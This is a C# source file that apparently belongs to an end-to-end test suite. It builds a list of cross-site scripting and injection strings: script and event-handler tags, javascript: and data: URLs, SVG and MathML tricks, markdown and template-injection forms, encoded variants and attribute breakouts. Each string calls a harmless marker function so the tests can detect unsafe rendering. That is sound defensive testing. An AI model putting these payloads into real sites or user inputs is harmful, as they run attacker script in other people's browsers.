using System.Globalization;

namespace Residency.Journeys.Hostile;

/// <summary>Texts that try to become script, markup, style or a request when a page shows them.</summary>
/// <remarks>
/// Every vector in every wrapping that would break out of where a page might put it. Whatever comes to life calls
/// <c>zz(number)</c>, which the journeys listen to.
/// </remarks>
internal static class Payloads
{
    // {0} stands for the number.
    private static readonly string[] s_vectors =
    [
        "<script>zz({0})</script>",
        "<script src=data:text/javascript,zz({0})></script>",
        "<ScRiPt\t>zz({0})</sCrIpT >",
        "<img src=x onerror=zz({0})>",
        "<img/src='x'/onerror='zz({0})'>",
        "<image href=x onerror=zz({0})>",
        "<svg onload=zz({0})>",
        "<svg><script>zz({0})</script></svg>",
        "<svg><animate onbegin=zz({0}) attributeName=x dur=1s>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>zz({0})</script></svg>#x\">",
        "<math><mtext><table><mglyph><style><img src=x onerror=zz({0})>",
        "<math href=javascript:zz({0})>m</math>",
        "<iframe srcdoc='<script>parent.zz({0})</script>'></iframe>",
        "<iframe src=javascript:parent.zz({0})></iframe>",
        "<object data='data:text/html,<script>zz({0})</script>'></object>",
        "<embed src=javascript:zz({0})>",
        "<body onload=zz({0})>",
        "<details open ontoggle=zz({0})><summary>s</summary></details>",
        "<video><source onerror=zz({0})></video>",
        "<audio src onerror=zz({0})>",
        "<input autofocus onfocus=zz({0})>",
        "<select autofocus onfocus=zz({0})>",
        "<textarea autofocus onfocus=zz({0})>",
        "<marquee onstart=zz({0})>m</marquee>",
        "<a href=javascript:zz({0})>a</a>",
        "<a href='jav&#x0A;ascript:zz({0})'>a</a>",
        "<a href='\u0001javascript:zz({0})'>a</a>",
        "<a href=data:text/html,<script>zz({0})</script>>a</a>",
        "<form action=javascript:zz({0})><button>b</button></form>",
        "<button formaction=javascript:zz({0})>b</button>",
        "<meta http-equiv=refresh content='0;url=javascript:zz({0})'>",
        "<base href=https://zz.example/{0}/>",
        "<link rel=stylesheet href=https://zz.example/{0}.css>",
        "<style>@import 'https://zz.example/{0}.css';</style>",
        "<p style=\"background:url(https://zz.example/{0})\">p</p>",
        "<template><script>zz({0})</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=zz({0})>\"></noscript>",
        "<xss id=x tabindex=1 onfocus=zz({0})></xss>",
        "<div popover id=zz{0} onbeforetoggle=zz({0})>d</div>",
        "[link](javascript:zz({0}))",
        "[link](<java\tscript:zz({0})>)",
        "![picture](x\"onerror=\"zz({0}))",
        "<javascript:zz({0})>",
        "[ref]: javascript:zz({0})\n\n[ref]",
        "{raw:html}`<script>zz({0})</script>`",
        "$\\href{javascript:zz({0})}{x}$",
        "{{constructor.constructor('zz({0})')()}}",
        "${zz({0})}",
        "@(zz({0}))",
        "\u202e<script>zz({0})</script>\u202c",
        "\uFF1Cscript\uFF1Ezz({0})\uFF1C/script\uFF1E",
        "%3Cscript%3Ezz({0})%3C/script%3E",
        "&lt;script&gt;zz({0})&lt;/script&gt;",
        "\\u003cscript\\u003ezz({0})\\u003c/script\\u003e",
    ];

    // What stands before, to leave an element, an attribute, a comment or a script that holds the text.
    private static readonly string[] s_ways = ["", "\">", "'>", "</title></textarea></style></script>", "-->]]>"];

    // These leave an attribute without leaving the element.
    private static readonly string[] s_attributes =
    [
        "\" onmouseover=zz({0}) autofocus onfocus=zz({0}) x=\"",
        "' onmouseover=zz({0}) autofocus onfocus=zz({0}) x='",
        "` onmouseover=zz({0}) x=`",
        "\" style=\"animation-name:x\" onanimationstart=\"zz({0})",
        "javascript:zz({0})",
        " javascript:zz({0})",
        "JaVaScRiPt:zz({0})//https://example.org",
        "data:text/html,<script>zz({0})</script>",
        "vbscript:zz({0})",
        "//zz.example/{0}",
        "https://zz.example/\" onclick=\"zz({0})",
        "');zz({0});//",
        "\";zz({0});//",
    ];

    /// <summary>All of them; the place in the list is the number.</summary>
    public static IReadOnlyList<string> All { get; } =
    [
        .. s_ways
            .SelectMany(way => s_vectors.Select(vector => way + vector))
            .Concat(s_attributes)
            .Select(
                (text, number) => text.Replace("{0}", number.ToString(CultureInfo.InvariantCulture), StringComparison.Ordinal)
            ),
    ];
}
